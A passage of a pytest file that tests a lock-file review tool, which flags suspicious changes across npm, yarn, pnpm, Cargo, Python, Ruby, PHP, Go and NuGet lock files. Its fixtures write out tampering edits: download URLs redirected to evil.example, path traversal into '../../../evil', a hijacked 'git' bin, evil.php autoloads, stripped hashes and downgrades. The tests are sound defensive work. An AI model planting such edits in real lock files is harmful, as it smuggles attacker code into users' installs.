checksum = "aaaa"
dependencies = [
 "serde_derive",
 "syn 2.0.87",
]
""",
        {"1.0.215": "1.0.216", "aaaa": "bbbb", "2.0.87": "2.0.90"},
    ),
    Update(
        "poetry.lock",
        """[[package]]
name = "requests"
version = "2.32.0"
description = "HTTP"
optional = false
python-versions = ">=3.8"
groups = ["main"]
markers = "python_version >= \\"3.8\\""
files = [
    {file = "requests-2.32.0-py3-none-any.whl", hash = "sha256:aaaa"},
    {file = "requests-2.32.0.tar.gz", hash = "sha256:bbbb"},
]

[package.dependencies]
certifi = ">=2017.4.17"
colorama = {version = ">=0.4", markers = "platform_system == \\"Windows\\""}

[package.extras]
socks = ["PySocks (>=1.5.6,!=1.5.7)"]

[metadata]
lock-version = "2.1"
python-versions = ">=3.8"
content-hash = "cccc"
""",
        {
            "2.32.0": "2.32.3",
            "aaaa": "dddd",
            "bbbb": "eeee",
            "cccc": "ffff",
            "3.8": "3.9",
            "2017.4.17": "2018.1",
            "Windows": "win",
        },
    ),
    Update(
        "uv.lock",
        f"""version = 1
requires-python = ">=3.12"

[[package]]
name = "pydantic-core"
version = "2.27.0"
source = {{ registry = "https://registry.example/simple" }}
dependencies = [
    {{ name = "typing-extensions", marker = "python_full_version < '3.13'" }},
]
sdist = {{ url = "{FILES}.tar.gz", hash = "sha256:aaaa", size = 1, upload-time = "2024-11-01T00:00:00Z" }}
wheels = [
    {{ url = "{FILES}-cp312-cp312-macosx_11_0_arm64.whl", hash = "sha256:bbbb", size = 1 }},
    {{ url = "{FILES}-cp312-none-win_amd64.whl", hash = "sha256:cccc", size = 1 }},
]
""",
        {
            "2.27.0": "2.27.1",
            PYPI[0]: PYPI[1],
            "aaaa": "dddd",
            "bbbb": "eeee",
            "cccc": "ffff",
            "size = 1": "size = 2",
            "cp312-none": "cp313-none",
            "3.13": "3.14",
            "2024": "2025",
        },
    ),
    Update(
        "Pipfile.lock",
        """{
    "_meta": {
        "hash": {"sha256": "cccc"},
        "pipfile-spec": 6,
        "requires": {"python_version": "3.12"},
        "sources": [{"name": "pypi", "url": "https://registry.example/simple", "verify_ssl": true}]
    },
    "default": {
        "requests": {
            "hashes": ["sha256:aaaa", "sha256:bbbb"],
            "index": "pypi",
            "markers": "python_version >= '3.8'",
            "version": "==2.32.0"
        }
    },
    "develop": {}
}
""",
        {"2.32.0": "2.32.3", "aaaa": "dddd", "bbbb": "eeee", "cccc": "ffff", "3.8": "3.9"},
    ),
    Update(
        "Gemfile.lock",
        f"""GIT
  remote: https://github.com/good/right.git
  revision: {COMMIT}
  branch: main
  specs:
    right (2.0.0)

GEM
  remote: https://rubygems.org/
  specs:
    mini_portile2 (2.8.7)
    nokogiri (1.16.7)
      mini_portile2 (~> 2.8.2)
      racc (~> 1.4)
    nokogiri (1.16.7-x86_64-linux)
      racc (~> 1.4)

PLATFORMS
  ruby
  x86_64-linux

DEPENDENCIES
  nokogiri (~> 1.16.7)
  right!

CHECKSUMS
  mini_portile2 (2.8.7) sha256=aaaa
  nokogiri (1.16.7) sha256=bbbb
  nokogiri (1.16.7-x86_64-linux) sha256=cccc
  right (2.0.0)

BUNDLED WITH
   2.5.23
""",
        {
            "1.16.7": "1.16.8",
            "bbbb": "dddd",
            "cccc": "eeee",
            "2.8.2": "2.8.4",
            "2.8.7": "2.8.8",
            "aaaa": "ffff",
            "2.5.23": "2.6.2",
        },
    ),
    Update(
        "composer.lock",
        f"""{{
    "_readme": ["This file locks the dependencies"],
    "content-hash": "aaaa",
    "packages": [
        {{
            "name": "monolog/monolog",
            "version": "3.7.0",
            "source": {{"type": "git", "url": "https://github.com/Seldaek/monolog.git", "reference": "{COMMIT}"}},
            "dist": {{
                "type": "zip",
                "url": "https://api.github.com/repos/Seldaek/monolog/zipball/{COMMIT}",
                "reference": "{COMMIT}",
                "shasum": ""
            }},
            "require": {{"php": ">=8.1", "psr/log": "^2.0 || ^3.0"}},
            "suggest": {{"ext-mbstring": "Allow to work properly with unicode: symbols/signs"}},
            "type": "library",
            "extra": {{"branch-alias": {{"dev-main": "3.x-dev"}}}},
            "autoload": {{"psr-4": {{"Monolog\\\\": "src/Monolog"}}}},
            "notification-url": "https://packagist.org/downloads/",
            "support": {{"source": "https://github.com/Seldaek/monolog/tree/3.7.0"}},
            "time": "2024-06-28T09:40:51+00:00"
        }}
    ],
    "packages-dev": [],
    "minimum-stability": "stable",
    "plugin-api-version": "2.6.0"
}}
""",
        {
            "3.7.0": "3.8.0",
            COMMIT: FORK,
            "aaaa": "bbbb",
            "2024": "2025",
            ">=8.1": ">=8.2",
            "3.x-dev": "4.x-dev",
            "signs": "more",
        },
    ),
    Update(
        "go.sum",
        """golang.org/x/net v0.30.0 h1:aaaa=
golang.org/x/net v0.30.0/go.mod h1:bbbb=
""",
        {"0.30.0": "0.33.0", "aaaa": "cccc", "bbbb": "dddd"},
    ),
    Update(
        "packages.lock.json",
        """{
  "version": 1,
  "dependencies": {
    "net8.0": {
      "Serilog": {
        "type": "Direct",
        "requested": "[4.1.0, )",
        "resolved": "4.1.0",
        "contentHash": "aaaa",
        "dependencies": {"System.Text.Json": "8.0.4"}
      }
    },
    "net8.0/linux-x64": {}
  }
}
""",
        {"4.1.0": "4.2.0", "aaaa": "bbbb", "8.0.4": "8.0.5"},
    ),
]


@pytest.mark.parametrize("one", UPDATES, ids=lambda one: one.path)
def test_updates_as_package_managers_write_them_are_held_back(one: Update) -> None:
    file = one.change()
    assert suspicions(file) == ()
    assert [held.reason for held in select([file], paths=(), attributes="").held] == [HeldBecause.LOCK_FILE]


def moved(name: str, folder: str, other: str) -> Update:
    """Return an update whose archive comes from another folder of the same host."""
    file = name.rpartition("/")[2]
    text = npm(name, version="1.2.0", resolved=f"https://{folder}/{file}-1.2.0.tgz", integrity=HASH)
    return Update("package-lock.json", text, {"1.2.0": "1.3.0", HASH: OTHER, folder: other})


def with_commit(path: str, text: str) -> Update:
    """Return a package at another commit."""
    return Update(path, text.replace("COMMIT", COMMIT), {COMMIT: FORK})


COMMITS = [
    with_commit("package-lock.json", npm("x", version="2.0.0", resolved="git+ssh://git@github.com/good/x.git#COMMIT")),
    with_commit(
        "package-lock.json", npm("x", version="2.0.0", resolved="https://codeload.github.com/good/x/tar.gz/COMMIT")
    ),
    with_commit(
        "yarn.lock",
        '"x@git+https://github.com/good/x.git":\n  version "2.0.0"\n  resolved "git+https://github.com/good/x.git#COMMIT"\n',
    ),
    with_commit("pnpm-lock.yaml", PNPM.replace("1111111", "COMMIT")),
    with_commit("pnpm-lock.yaml", PNPM_FORMS.replace("1111111", "COMMIT")),
    with_commit("yarn.lock", BERRY.replace("1111111", "COMMIT")),
    with_commit("Cargo.lock", CARGO.replace("1111111", "COMMIT")),
    with_commit(
        "poetry.lock", POETRY.replace('reference = "HEAD"', 'reference = "HEAD"\nresolved_reference = "COMMIT"')
    ),
    with_commit("uv.lock", UV.replace("1111111", "COMMIT")),
    with_commit("Pipfile.lock", PIPENV.replace("1111111", "COMMIT")),
    with_commit("Gemfile.lock", BUNDLER.replace("1111111", "COMMIT")),
    with_commit("composer.lock", COMPOSER.replace("1111111", "COMMIT")),
]
FOLDERS = [
    moved(
        "@x/left",
        f"gitlab.com/api/v4/projects/{one}/packages/npm/@x/left/-",
        f"gitlab.com/api/v4/projects/{other}/packages/npm/@x/left/-",
    )
    for one, other in [("111", "666")]
] + [
    moved("left", f"{before}/corp/{after}left/-", f"{before}/evil/{after}left/-")
    for before, after in [
        ("pkgs.dev.azure.com", "_packaging/f/npm/registry/"),
        ("us-npm.pkg.dev", "npm/"),
        ("s3.amazonaws.com", ""),
        ("dl.cloudsmith.io/public", "x/npm/"),
        ("r.example", ""),
    ]
]


@pytest.mark.parametrize("one", [*COMMITS, *FOLDERS])
def test_another_commit_or_folder_is_reviewed(one: Update) -> None:
    assert suspicions(one.change())


@pytest.mark.parametrize("one", [one for one in COMMITS if "2.0.0" in one.text])
def test_another_commit_of_a_higher_version_is_reviewed(one: Update) -> None:
    assert suspicions(replace(one, edits={**one.edits, "2.0.0": "2.1.0"}).change())


@pytest.mark.parametrize(
    ("path", "text", "edits"),
    [
        (
            "composer.lock",
            COMPOSER,
            {"1.2.0": "1.3.0", "aaaa": "bbbb", "1111111": "../../../evil/left/zipball/2222222"},
        ),
        (
            "package-lock.json",
            npm("x", version="1.2.0", resolved="https://codeload.github.com/good/x/tar.gz/v1.2.0"),
            {"1.2.0": "1.3.0/../../../../evil/x/tar.gz/v1.3.0"},
        ),
        (
            "package-lock.json",
            NPM,
            {'"node_modules/@x': '"./node_modules/left": {"version": "1.1.0"}, "node_modules/@x'},
        ),
        *(
            ("package-lock.json", npm("@evil.example/x", version="1.2.0", resolved=f"https://{SCOPED}"), {SCOPED: now})
            for now in (SCOPED.replace("/", "%2F", 1), f"%2F%2F{SCOPED.replace('/', '%2F', 1)}")
        ),
        (
            "yarn.lock",
            YARN.replace("git+ssh://git@github.com/good/", "https://registry.example/@evil.example/"),
            {"registry.example/@": "registry.example%2F@"},
        ),
        ("yarn.lock", YARN, {'"^2.0.0"': '"https%3A%2F%2Fevil.example"'}),
        ("pnpm-lock.yaml", OVERRIDES, {"^1.2.0": "npm:evil@1.2.0"}),
        ("pnpm-lock.yaml", OVERRIDES, {"^1.2.0": "link:../evil"}),
        (
            "uv.lock",
            UV_TWICE,
            {'{ name = "left-pad" }': '{ name = "left-pad", source = { git = "https://evil.example" } }'},
        ),
        ("Pipfile.lock", PIPENV, {'"index": "main"': '"index": "other"'}),
        ("Pipfile.lock", PIPENV_TWO, {'            "index": "main",\n': ""}),
        ("Pipfile.lock", PIPENV, {"true": "false"}),
        ("Pipfile.lock", PIPENV, {'"sources": [': '"sources": [{"name": "b", "url": "https://evil.example"}, '}),
        ("poetry.lock", POETRY, {"[metadata]": '[[package]]\nname = "left"\nversion = "1.1.0"\n\n[metadata]'}),
        ("uv.lock", UV, {', hash = "sha256:cccc"': ""}),
        ("yarn.lock", YARN, {"left@^1.0.0, left@^1.2.0:": "left@^1.0.0, evil@^1.2.0:"}),
        ("yarn.lock", YARN, {f"  integrity {HASH}": f"\u00a0 integrity {HASH}"}),
        ("yarn.lock", YARN, {"# yarn lockfile v1\n": YARN.replace("left", "\\u006ceft").replace("1.2.0", "1.1.0")}),
        ("yarn.lock", YARN, {'"^2.0.0"': '"evil/right"'}),
        ("yarn.lock", YARN, {'"^2.0.0"': '"evil.TGZ"'}),
        ("yarn.lock", YARN, {'"^2.0.0"': '"evil.Tar"'}),
        ("package-lock.json", NPM, {HASH: f"{HASH} {OTHER}"}),
        ("Pipfile.lock", PIPENV, {'"sha256:aaaa"': '"sha256:aaaa", "sha256:bbbb"'}),
        (
            "poetry.lock",
            POETRY,
            {'    {file = "left': '    {file = "left-1.2.0.tar.gz", hash = "sha256:bbbb"},\n    {file = "left'},
        ),
        ("poetry.lock", POETRY_FILES, {'    { file = "left-1.2.0.whl", hash = "sha256:cccc" },\n': "", "aaaa": "bbbb"}),
        ("package-lock.json", V1, {f'"{HASH}",': f'"{HASH}", "requires": {{"right": "evil.tgz"}},'}),
        ("package-lock.json", NPM, {"^1.2.0": "^1.3.0", f'"{HASH}",': f'"{HASH}", "bin": {{"git": "x.js"}},'}),
        ("pnpm-lock.yaml", PNPM, {"peer: 3.0.0": "peer: evil@3.0.0"}),
        ("composer.lock", COMPOSER, {'"homepage"': '"autoload": {"files": ["../../../evil.php"]}, "homepage"'}),
    ],
)
def test_a_change_of_anything_else_is_reviewed(path: str, text: str, edits: Mapping[str, str]) -> None:
    assert suspicions(Update(path, text, edits).change())


def test_two_versions_that_swap_their_places_are_reviewed() -> None:
    entries = [
        {
            "version": version,
            "resolved": f"https://r.example/left/-/left-{version}.tgz",
            "integrity": f"sha512-{version}",
        }
        for version in ("1.2.0", "0.9.0")
    ]
    places = "node_modules/left", "node_modules/x/node_modules/left"
    old, new = (
        json.dumps({"packages": dict(zip(places, some, strict=True))}, indent=1) + "\n"
        for some in (entries, entries[::-1])
    )
    assert suspicions(change("package-lock.json", old, new)) == ("`left` goes from version 1.2.0 to 0.9.0",)


TABLE = {"owner", "host", "http", "git", "path", "no hash", "lower"}
WITHOUT: Mapping[str, set[str]] = {
    "go.sum": {"owner", "host", "http", "git", "path"},  # a module's name is its source, and go.mod is reviewed
    "src/packages.lock.json": {"owner", "host", "http", "git"},  # it contains no source
}


@pytest.mark.parametrize("one", [one for one in FORMATS if one.text is not V1], ids=lambda one: one.path)
def test_every_format_has_every_attack_that_it_can_express(one: Format) -> None:
    assert one.attacks.keys() >= TABLE - WITHOUT.get(one.path, set())


LEFT = {"version": "1.2.0", "resolved": "https://registry.example/left/-/left-1.2.0.tgz", "integrity": HASH}
SHA1 = "sha1-" + "A" * 27 + "="


@pytest.mark.parametrize(
    "value", ["none", " ", False, f"{HASH} none", "sha512-", f"sha512:{'a' * 86}==", "a" * 64, f"md5-{'a' * 32}", SHA1]
)
def test_a_text_that_is_no_hash_or_a_weaker_one_is_reviewed(value: object) -> None:
    old, higher = npm("left", **LEFT), json.loads(json.dumps(LEFT).replace("1.2.0", "1.3.0"))
    assert suspicions(change("package-lock.json", old, npm("left", **{**higher, "integrity": OTHER}))) == ()
    assert suspicions(change("package-lock.json", old, npm("left", **{**higher, "integrity": value})))
    more = {
        "node_modules/left": LEFT,
        "node_modules/more": {**LEFT, "resolved": "https://registry.example/more/-/more-1.2.0.tgz", "integrity": value},
    }
    assert suspicions(change("package-lock.json", old, npm_of(more)))


def test_a_weak_hash_may_become_another_one() -> None:
    old, new = npm("left", **{**LEFT, "integrity": SHA1}), npm("left", **{**LEFT, "integrity": SHA1.replace("A", "B")})
    assert suspicions(change("package-lock.json", old, new.replace("1.2.0", "1.3.0"))) == ()
    assert suspicions(change("package-lock.json", old, new))


@pytest.mark.parametrize(
    ("path", "text", "edits"),
    [
        ("Gemfile.lock", BUNDLER, {"left (1.2.0)": "left (1.3.0)", "sha256=aaaa": "none=x"}),
        ("pnpm-lock.yaml", PNPM, {"1.2.0": "1.3.0", HASH: "none"}),
        ("yarn.lock", YARN, {"1.2.0": "1.3.0", HASH: "none"}),
        ("yarn.lock", BERRY, {"1.2.0": "1.3.0", "10/aaaa": "none"}),
        ("Cargo.lock", CARGO, {"1.2.0": "1.3.0", "aaaa": "none"}),
        ("uv.lock", UV, {"1.2.0": "1.3.0", "sha256:aaaa": "sha256:"}),
        ("composer.lock", COMPOSER, {"1.2.0": "1.3.0", "aaaa": "none"}),
        ("packages.lock.json", NUGET, {"1.2.0": "1.3.0", "aaaa": "none"}),
    ],
)
def test_a_text_that_is_no_hash_is_reviewed_in_any_format(path: str, text: str, edits: Mapping[str, str]) -> None:
    assert any("none" in one or "hash" in one for one in suspicions(Update(path, text, edits).change()))


PNPM_EDGES = """lockfileVersion: '9.0'

packages:

  bar@1.0.0:
    resolution: {integrity: sha512-aaaa}

  foo@3.0.0:
    resolution: {integrity: sha512-bbbb}

  foo@4.0.0:
    resolution: {integrity: sha512-cccc}

  old@1.0.0:
    resolution: {integrity: sha512-dddd}

snapshots:

  bar@1.0.0:
    dependencies:
      alias: foo@4.0.0
      foo: 4.0.0

  foo@3.0.0: {}

  foo@4.0.0: {}

  old@1.0.0:
    dependencies:
      foo: 3.0.0
"""


@pytest.mark.parametrize(
    "text",
    [
        PNPM_EDGES,
        # Before version 9, a package has its dependencies itself.
        re.sub(r"  (\S+)@(\S+:)", r"  /\1/\2", PNPM_EDGES.partition("\nsnapshots")[0]).replace(
            "sha512-aaaa}\n", "sha512-aaaa}\n    dependencies:\n      foo: 4.0.0\n"
        ),
    ],
)
@pytest.mark.parametrize(("now", "is_lower"), [("3.0.0", True), ("next", True), ("4.0.1", False)])
def test_a_lower_version_that_pnpm_installs_for_a_package_is_reviewed(text: str, now: str, is_lower: bool) -> None:  # noqa: FBT001 — a table
    for old in (" foo: 4.0.0", "alias: foo@4.0.0"):
        if old in text:
            assert (
                bool(suspicions(Update("pnpm-lock.yaml", text, {old: old.replace("4.0.0", now)}).change())) is is_lower
            )


CARGO_EDGES = "".join(
    f'[[package]]\nname = "{name}"\nversion = "{version}"\nsource = "registry+https://index.example/"\n'
    f'checksum = "{checksum}"\ndependencies = [{needs}]\n\n'
    for name, version, checksum, needs in (
        ("bar", "1.0.0", "aaaa", '"foo 4.0.0", "one"'),
        ("foo", "3.0.0", "bbbb", ""),
        ("foo", "4.0.0", "cccc", ""),
        ("old", "1.0.0", "dddd", '"foo 3.0.0 (registry+https://index.example/)"'),
        ("one", "1.0.0", "eeee", ""),
    )
)
UV_EDGES = (
    CARGO_EDGES.replace("checksum", "resolution")
    .replace("registry+https://index.example/)", "x)")
    .replace('"foo 4.0.0"', '{ name = "foo", version = "4.0.0" }')
    .replace('"one"]', '{ name = "one" }]')
    .replace('"foo 3.0.0 (x)"', '{ name = "foo", version = "3.0.0" }')
)
YARN_EDGES = f"""# yarn lockfile v1


bar@^1.0.0:
  version "1.0.0"
  integrity {HASH}
  dependencies:
    foo "^4.0.0"

foo@^3.0.0:
  version "3.0.0"
  integrity {HASH}

foo@^4.0.0:
  version "4.0.0"
  integrity {OTHER}

old@^1.0.0:
  version "1.0.0"
  integrity {OTHER}
  dependencies:
    foo "^3.0.0"
"""

NPM_BAR = '"version": "1.0.0", "requires": {"foo": "^4.0.0"}, "dependencies": {"foo": '
FOO = '"version": "4.0.0"'
NPM_EDGES = f"""{{"packages": {{
"node_modules/bar": {{{NPM_BAR}"^4.0.0"}}}},
"node_modules/bar/node_modules/foo": {{{FOO}}},
"node_modules/bar/node_modules/node_modules/foo": {{{FOO}}},
"node_modules/foo": {{"version": "3.0.0"}},
"node_modules/node_modules/foo": {{{FOO}}},
"node_modules/old": {{"version": "1.0.0", "dependencies": {{"foo": "^4.0.0", "none": "*"}}}},
"node_modules/old/node_modules/foo": {{{FOO}}}
}}}}
"""
NPM_TREE = f"""{{"dependencies": {{
"bar": {{{NPM_BAR}{{{FOO}}}}}}},
"foo": {{"version": "3.0.0"}},
"old": {{{NPM_BAR}{{{FOO}}}}}}}
}}}}
"""
TWO_BARS = CARGO_EDGES.replace('name = "old"\nversion = "1', 'name = "bar"\nversion = "0')


@pytest.mark.parametrize(
    ("path", "text", "old", "now"),
    [
        ("package-lock.json", NPM_EDGES, "/bar/node_modules/foo", "/bar/node_modules/fox"),
        ("package-lock.json", NPM_TREE, f'"bar": {{{NPM_BAR[:-7]}"foo"', f'"bar": {{{NPM_BAR[:-7]}"fox"'),
        ("Cargo.lock", TWO_BARS, '"foo 4.0.0"', '"foo 3.0.0"'),
        ("Cargo.lock", CARGO_EDGES, '"foo 4.0.0"', '"foo 3.0.0"'),
        ("uv.lock", UV_EDGES, '{ name = "foo", version = "4.0.0" }', '{ name = "foo", version = "3.0.0" }'),
        (
            "uv.lock",
            UV_EDGES.replace("\ndependencies", "\noptional-dependencies").replace("s = [{", "s.x = [{"),
            '{ name = "foo", version = "4.0.0" }',
            '{ name = "foo", version = "3.0.0" }',
        ),
        ("yarn.lock", YARN_EDGES, 'foo "^4.0.0"', 'foo "^3.0.0"'),
    ],
)
def test_a_dependent_that_gets_a_lower_version_which_is_already_locked_is_reviewed(
    path: str, text: str, old: str, now: str
) -> None:
    assert suspicions(Update(path, text, {old: now}).change()) == ("`bar` now gets version 3.0.0 of `foo`",)
    assert suspicions(Update(path, text.replace(old, now), {now: old}).change()) == ()


@pytest.mark.parametrize(
    ("path", "text", "edit"),
    [
        ("package-lock.json", npm("bar", **LEFT, dependencies={"foo": "^4.0.0"}), ('"foo": "^4.0.0"', "")),
        ("yarn.lock", YARN_EDGES, ('dependencies:\n    foo "^4.0.0"', 'license: "MIT"')),
    ],
)
def test_a_dependency_that_is_gone_in_the_same_version_is_reviewed(path: str, text: str, edit: Edit) -> None:
    found = suspicions(Update(path, text, dict([edit])).change())
    assert found == ("`bar` no longer has the dependency `foo` in the same version",)
    higher = text.replace("1.2.0", "1.3.0").replace('"1.0.0"', '"1.1.0"').replace("aaaa", "bbbb", 1).replace(*edit)
    assert suspicions(change(path, text, higher)) == ()


MARKED = """[[package]]
name = "bar"
version = "1.0.0"
dependencies = [
    { name = "foo", version = "3.0.0", marker = "NEEDS < 9" },
    { name = "foo", version = "4.0.0", marker = "NEEDS >= 9" },
]

[[package]]
name = "foo"
version = "3.0.0"
OLD
files = [{ file = "foo-3.0.0.tar.gz", hash = "sha256:aaaa" }]

[[package]]
name = "foo"
version = "4.0.0"
NEW
files = [{ file = "foo-4.0.0.tar.gz", hash = "sha256:bbbb" }]
"""
MARKERS = [
    ("uv.lock", 'resolution-markers = ["x", "{} 9"]', "resolution-markers"),
    ("poetry.lock", 'markers = "{} 9"', "markers"),
    ("poetry.lock", 'markers = {{ main = "{} 9", dev = "x" }}', "markers main"),
    ("pdm.lock", 'marker = "{} 9"', "marker"),
    ("pylock.toml", 'marker = "{} 9"', "marker"),
]


@pytest.mark.parametrize(("path", "line", "key"), MARKERS)
def test_two_versions_that_swap_their_markers_are_reviewed(path: str, line: str, key: str) -> None:
    def marked(old: str, new: str) -> str:
        lines = (line.format(one) if one else "" for one in (old, new))
        return MARKED.replace("OLD", next(lines)).replace("NEW", next(lines))

    for old, new, said in (
        (">=", "<", f" where `{key} = >= 9`"),
        ("<=", ">", f" where `{key} = <= 9`"),
        ("", ">=", ""),
        ("< 9 or >", ">=", f" where `{key} = > 9`"),
    ):
        assert suspicions(change(path, marked("<", ">="), marked(old, new))) == (f"`foo` now gets version 3.0.0{said}",)
    assert suspicions(change(path, marked("< 7 or (>= 8) or <", ">="), marked("<", ">= 10 and <"))) == ()
    assert suspicions(change(path, marked("(< 8 or (<= 8)) and <", ">="), marked("<", ">=")))


@pytest.mark.parametrize(
    ("edits", "is_lower"),
    [
        ({"NEEDS < 9": "NEEDS >= 9", "NEEDS >= 9": "NEEDS < 9"}, True),
        ({"NEEDS <": "NEEDS <="}, True),
        ({"NEEDS >=": "NEEDS >"}, False),
    ],
)
def test_a_dependent_that_gets_a_lower_version_by_its_marker_is_reviewed(
    edits: Mapping[str, str], *, is_lower: bool
) -> None:
    old = re.sub("OLD|NEW", "", MARKED)
    found = suspicions(change("uv.lock", old, re.sub("|".join(edits), lambda one: edits[one[0]], old)))
    assert [one.partition(" where ")[0] for one in found] == ["`bar` now gets version 3.0.0 of `foo`"] * is_lower


def test_a_dependent_may_get_a_higher_version_of_the_only_one_that_is_locked() -> None:
    edits = {'name = "one"\nversion = "1.0.0"': 'name = "one"\nversion = "1.1.0"', "eeee": "ffff"}
    assert suspicions(Update("Cargo.lock", CARGO_EDGES, edits).change()) == ()
    edits = {**edits, '"1.1.0"': '"0.9.0"'}
    assert "`bar` now gets version 0.9.0 of `one`" in suspicions(Update("Cargo.lock", CARGO_EDGES, edits).change())


def test_a_lower_version_at_a_new_place_below_another_package_is_reviewed() -> None:
    def entry(version: str) -> Mapping[str, str]:
        url = f"https://registry.example/left/-/left-{version}.tgz"
        return {"version": version, "resolved": url, "integrity": HASH}

    old = {"node_modules/left": entry("4.0.0"), "node_modules/old/node_modules/left": entry("1.0.0")}
    for folder in ("node_modules/bar/", "node_modules/x/node_modules/@y/bar/", "packages/app/"):
        for version, said in (("3.0.0", ("`left` goes from version 4.0.0 to 3.0.0",)), ("4.0.0", ())):
            new = {**old, f"{folder}node_modules/left": entry(version)}
            assert suspicions(change("package-lock.json", npm_of(old), npm_of(new))) == said


def test_a_lower_version_below_another_package_is_reviewed_in_the_first_format() -> None:
    def tree(version: str) -> str:
        below = {"left": {**LEFT, "version": version}} if version else {}
        old = {"version": "1.0.0", "dependencies": {"left": {**LEFT, "version": "1.0.0"}}}
        packages = {"left": LEFT, "bar": {"version": "1.0.0", "dependencies": below}, "old": old}
        return json.dumps({"lockfileVersion": 1, "dependencies": packages}, indent=1).replace(
            "left-1.2.0", f"left-{version}"
        )

    assert suspicions(change("package-lock.json", tree(""), tree("1.1.0")))[-1] == (
        "`left` goes from version 1.2.0 to 1.1.0"
    )


def test_a_long_place_is_unreadable() -> None:
    for name in ("x" * 500, "/".join("x" * 51)):
        assert "format is unknown" in suspicions(change("package-lock.json", "", npm(name, version="1.0.0")))[0]


def test_a_lock_file_of_unknown_format_is_reviewed() -> None:
    for path in ("pubspec.lock", "flake.lock", "conda-lock.yml", ".terraform.lock.hcl"):
        assert is_lock_file(path)
        assert suspicions(change(path, "a\n", "b\n"))


@pytest.mark.parametrize(
    ("path", "old", "edit", "said"),
    [
        (
            "package-lock.json",
            NPM,
            ("https://registry.example/left", "https://evil.example/left"),
            "`left` is downloaded from another address: `https://evil.example/left/-/left-1.2.0.tgz`",
        ),
        ("package-lock.json", NPM, (NPM_URL, '"resolved": "../evil"'), "downloaded from another address: `../evil`"),
        (
            "uv.lock",
            UV,
            ("files.example/bb", "evil.example/bb"),
            "`https://evil.example/bb/left_pad-1.2.0-py3-none-any.whl`",
        ),
        ("package-lock.json", NPM, ('"version": "2.0.0"', '"version": "2.0.0", "bin": "x"'), "has another `bin`: `x`"),
        (
            "package-lock.json",
            "",
            ("", ""),
            "downloaded from another address: `https://registry.example/left/-/left-1.2.0.tgz`",
        ),
    ],
)
def test_another_source_is_shown_as_it_is_written(path: str, old: str, edit: Edit, said: str) -> None:
    text = " and ".join(suspicions(change(path, old, (old or NPM).replace(*edit))))
    assert said in text
    assert "{" not in text


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package-lock.json", "[]\n"),
        ("package-lock.json", '{"packages": {"node_modules/left": 1}}\n'),
        ("package-lock.json", '{"packages": []}\n'),
        ("composer.lock", '{"packages": [{"name": 1}]}\n'),
        ("yarn.lock", "left\n"),
    ],
)
def test_a_lock_file_of_another_format_is_reviewed(path: str, text: str) -> None:
    assert suspicions(change(path, "", text))


def test_a_lock_file_without_packages_is_an_ordinary_one() -> None:
    assert (
        suspicions(change("pnpm-lock.yaml", "lockfileVersion: '9.0'\n", "lockfileVersion: '9.0'\n\npackages:\n")) == ()
    )


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("go.sum", GO, "\n"),
        ("pnpm-lock.yaml", PNPM, "\n"),
        ("yarn.lock", YARN, "# yarn lockfile v1\n"),
        ("package-lock.json", NPM, "{}\n"),
        ("pnpm-lock.yaml", PNPM, PNPM.partition("packages:")[0]),
        ("Pipfile.lock", PIPENV, PIPENV.partition('"default"')[0] + '"default": {}}\n'),
        ("composer.lock", COMPOSER, '{"packages": [], "minimum-stability": "stable"}\n'),
        ("Cargo.lock", CARGO, "version = 4\n"),
        ("Gemfile.lock", BUNDLER, "BUNDLED WITH\n   2.5.23\n"),
    ],
)
def test_a_lock_file_that_becomes_empty_is_reviewed(path: str, old: str, new: str) -> None:
    assert suspicions(change(path, old, new)) == ("it no longer locks anything",)


@pytest.mark.parametrize(("old", "new"), [("", "\n"), ("\n", "\n\n"), ("\n", "# yarn lockfile v1\n")])
def test_a_lock_file_that_stays_empty_is_an_ordinary_one(old: str, new: str) -> None:
    assert suspicions(change("yarn.lock", old, new)) == ()


@pytest.mark.parametrize(
    ("path", "text", "edits", "said"),
    [
        ("pnpm-lock.yaml", PNPM, {"'9.0'": "'6.0'"}, "`lockfileVersion` goes from version 9.0 to 6.0"),
        (
            "Gemfile.lock",
            BUNDLER + "\nRUBY VERSION\n   ruby 3.4.1p0\n",
            {"3.4.1p0": "2.7.0p0"},
            "`RUBY VERSION` goes from version 3.4.1p0 to 2.7.0p0",
        ),
    ],
)
def test_a_lower_version_of_the_package_manager_is_reviewed(
    path: str, text: str, edits: Mapping[str, str], said: str
) -> None:
    assert suspicions(Update(path, text, edits).change()) == (said,)


def test_a_new_or_too_large_lock_file_is_reviewed_and_a_deleted_one_is_not() -> None:
    assert suspicions(change("package-lock.json", "", NPM))
    assert suspicions(change("package-lock.json", V1, NPM, read=False)) == ("its text is unavailable",)
    gone = change("package-lock.json", NPM, "")
    assert suspicions(gone) == ()
    assert select([gone], paths=(), attributes="").notices == (
        "`package-lock.json` is deleted, so package versions are no longer locked.",
    )


def test_a_moved_lock_file_is_reviewed() -> None:
    """A file that installed nothing where it was, such as a fixture, may decide what is installed where it is now."""
    names = "rename from tests/package-lock.json\nrename to package-lock.json\n"
    (diff,) = parse_diff(f"diff --git a/tests/package-lock.json b/package-lock.json\nsimilarity index 100%\n{names}")
    moved = ChangedFile(diff, Entry("1" * 40, "100644"), Entry("1" * 40, "100644", text=NPM))
    selection = select([moved], paths=(), attributes="")
    assert [one.path for one in selection.selected] == ["package-lock.json"]
    assert selection.notices == (
        "`package-lock.json` is selected for review, because it was `tests/package-lock.json`.",
    )


@pytest.mark.parametrize("old", ["", "old/yarn.lock\n", YARN])
def test_a_lock_file_that_is_a_symlink_is_reviewed(old: str) -> None:
    """The package manager reads the file that it names."""
    file = change("yarn.lock", old, "#evil/yarn.lock\n")
    linked = ChangedFile(file.diff, file.old, Entry("2" * 40, "120000", text=file.text))
    assert suspicions(linked) == ("it is a symlink",)


def test_a_new_package_from_a_known_source_is_ordinary() -> None:
    more = NPM.replace(
        '    "node_modules/@x/right"',
        '    "node_modules/left/node_modules/middle": {\n      "version": "1.0.0",\n'
        f'      "resolved": "https://registry.example/middle/-/middle-1.0.0.tgz",\n'
        f'      "integrity": "{OTHER}"\n    }},\n'
        '    "node_modules/@x/right"',
    )
    assert suspicions(change("package-lock.json", NPM, more)) == ()
    assert suspicions(change("package-lock.json", more, NPM)) == ()


@pytest.mark.parametrize(
    ("path", "text", "edit", "is_ordinary"),
    [
        (
            "package-lock.json",
            NPM,
            ('"node_modules/@x', '"node_modules/more": {"version": "1.0.0"}, "node_modules/@x'),
            False,
        ),
        ("package-lock.json", NPM, ('"node_modules/@x', '"lib/more": {"version": "1.0.0"}, "node_modules/@x'), True),
